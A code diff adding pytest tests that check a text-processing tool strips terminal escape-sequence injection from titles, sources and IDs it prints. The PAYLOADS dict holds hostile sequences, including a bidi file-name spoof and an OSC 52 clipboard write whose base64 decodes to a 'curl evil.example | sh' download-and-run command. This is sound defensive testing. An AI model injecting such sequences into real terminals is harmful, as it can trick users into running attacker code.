@@ -157,3 +157,69 @@ def test_a_truncated_gzip_keeps_what_was_read_and_rejects_the_rest(tmp_path):
     ingested = read_inputs([tmp_path])
     reasons = rejects_by_file(ingested)
     assert list(reasons) == ["cut.jsonl.gz"] and "unreadable" in reasons["cut.jsonl.gz"]
+
+
+# --- 7. terminal escape injection ----------------------------------------------------------------
+
+PAYLOADS = {
+    "clear": "\x1b[2J\x1b[H",
+    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "title": "\x1b]0;pwned\x1b\\",
+    "c1_csi": "\x9b31m",
+    "bidi": "\u202etxt.exe",
+    "bell": "\x07\x08",
+}
+HOSTILE = "".join(PAYLOADS.values())
+STORY = " ".join(f"The harbour board met on day {k} and agreed to widen the northern channel by two metres."
+                 for k in range(30))
+
+
+def _assert_clean(output: str) -> None:
+    for name, payload in PAYLOADS.items():
+        assert payload not in output, name
+    for forbidden in ("\x1b", "\x9b", "\x07", "\u202e", "]52;"):
+        assert forbidden not in output, repr(forbidden)
+
+
+def test_clean_text_strips_sequences_controls_and_bidi():
+    from copytrace.faces.terminal import clean_text
+
+    assert clean_text(f"Budget{HOSTILE} passes") == "Budgettxt.exe passes"
+    assert clean_text("line one\nline two\ttab") == "line one\nline two\ttab"
+    assert clean_text("Москва: бюджет принят") == "Москва: бюджет принят"
+    assert clean_text("unterminated \x1b]52;c;AAAA") == "unterminated "
+
+
+def test_a_safe_console_keeps_its_own_styles_and_drops_the_payload():
+    import io
+
+    from copytrace.faces.terminal import SafeConsole
+
+    buffer = io.StringIO()
+    SafeConsole(file=buffer, force_terminal=True, color_system="standard").print(
+        "[bold]title:[/] ", f"Budget{HOSTILE}", markup=True)
+    text = buffer.getvalue()
+    assert "\x1b[1m" in text  # rich's bold, not the text's
+    assert "]52;" not in text and "\x1b[2J" not in text and "\u202e" not in text and "pwned" not in text
+    assert "Budgettxt.exe" in text
+
+
+def test_scan_and_explain_print_no_escape_sequences_from_titles_and_outlets(tmp_path):
+    import json
+
+    from typer.testing import CliRunner
+
+    from copytrace.faces.cli import app
+
+    rows = [{"id": f"doc{HOSTILE}{k}", "text": STORY + (" Extra words." * k), "title": f"Title{HOSTILE}{k}",
+             "source": f"Outlet{HOSTILE}{k}", "date": f"2024-01-0{k + 1}"} for k in range(3)]
+    corpus = tmp_path / "docs.jsonl"
+    corpus.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    runner = CliRunner()
+    scanned = runner.invoke(app, ["scan", str(corpus), "-o", str(tmp_path / "out")])
+    assert scanned.exit_code == 0, scanned.output
+    assert "Outlet" in scanned.output  # the outlets are shown, cleaned
+    _assert_clean(scanned.output)
+    explained = runner.invoke(app, ["explain", rows[1]["id"], "-o", str(tmp_path / "out")])
+    assert explained.exit_code == 0, explained.output
+    _assert_clean(explained.output)
